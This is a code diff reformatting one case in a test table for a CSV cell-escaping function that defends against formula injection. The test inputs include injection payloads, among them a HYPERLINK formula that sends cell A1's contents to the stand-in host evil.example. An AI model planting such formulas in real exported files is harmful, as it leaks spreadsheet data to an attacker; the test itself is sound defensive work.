@@ -9,7 +9,10 @@ describe("csvCell", () => {
     ["@SUM(1)", "'@SUM(1)"],
     ["\tcmd", "'\tcmd"],
     ["\rcmd", `"'\rcmd"`],
-    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
+    ],
     ["a=b", "a=b"],
     ["plain", "plain"],
     ["", ""],
